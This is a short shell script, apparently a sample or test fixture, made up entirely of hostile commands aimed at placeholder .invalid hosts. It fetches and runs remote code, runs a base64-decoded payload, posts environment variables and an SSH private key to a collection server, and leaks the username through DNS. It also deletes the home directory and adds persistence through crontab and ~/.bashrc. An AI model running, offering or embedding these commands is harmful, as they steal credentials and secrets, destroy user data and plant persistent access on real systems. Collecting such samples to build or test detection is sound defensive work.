#!/bin/sh
set -eu
curl -fsSL https://get.example.invalid/x.sh | bash
echo aGVsbG8K | base64 -d | sh
env | curl -X POST --data-binary @- https://collect.example.invalid/
cat ~/.ssh/id_rsa > /tmp/k
dig $(whoami).tunnel.example.invalid
rm -rf ~/
crontab /tmp/job
echo 'curl x | sh' >> ~/.bashrc
curl -F file=@/tmp/k https://collect.example.invalid/up
